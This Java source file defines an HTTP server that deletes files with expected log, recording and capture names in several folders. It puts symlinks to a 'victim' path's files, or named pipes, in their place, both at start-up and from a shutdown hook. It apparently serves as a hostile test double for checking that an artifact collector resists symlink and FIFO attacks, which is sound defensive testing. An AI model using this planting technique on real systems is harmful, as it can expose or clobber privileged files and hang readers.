import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.util.List;

/** HTTP server that plants links to files of root, or named pipes, wherever it can write: PlantsLinks HOST PORT KIND VICTIM. */
public final class PlantsLinks {
    private static final List<String> NAMES = List.of(
            "delivered.bin", "host.jsonl", "host-threads.jsonl", "host.log", "wire.json", "recording.json", "reads.bin",
            "last-frames.pcap", "kernel-reads.bin", "kernel-reads.json", "kernel-reads.log", "attached.json", "node-stats.jsonl");
    private static final List<String> OF_THE_JVM = List.of(
            "gc.log", "exceptions.log", "exceptions.log.0", "hs_err.log", "recording.jfr", "recording.jfc", "jfr");

    public static void main(String[] arguments) throws IOException {
        boolean links = arguments[2].equals("links");
        Path victim = Path.of(arguments[3]);
        plant(NAMES, links, victim);
        plant(List.of("hs_err.log", "exceptions.log.0"), links, victim);
        Runtime.getRuntime().addShutdownHook(new Thread(() -> plant(OF_THE_JVM, links, victim)));
        HttpServer server = HttpServer.create(new InetSocketAddress(arguments[0], Integer.parseInt(arguments[1])), 0);
        server.createContext("/", exchange -> {
            exchange.getRequestBody().readAllBytes();
            byte[] answer = "0\n1\n".getBytes(StandardCharsets.UTF_8);
            exchange.sendResponseHeaders(200, answer.length);
            exchange.getResponseBody().write(answer);
            exchange.close();
        });
        server.start();
    }

    private static void plant(List<String> names, boolean links, Path victim) {
        for (String folder : List.of("..", "../raw", "../jvm", "../load", ".")) {
            for (String name : names) {
                Path place = Path.of(folder, name);
                try {
                    if (Files.isDirectory(place, LinkOption.NOFOLLOW_LINKS)) {
                        Files.move(place, Path.of(folder, name + ".aside"));
                    }
                    Files.deleteIfExists(place);
                    if (links) {
                        Files.createSymbolicLink(place, victim.resolve(name));
                    } else {
                        new ProcessBuilder("mkfifo", place.toString()).start().waitFor();
                    }
                    System.out.println("planted " + place);
                } catch (IOException | InterruptedException error) {
                    // It may not write there.
                }
            }
        }
    }
}
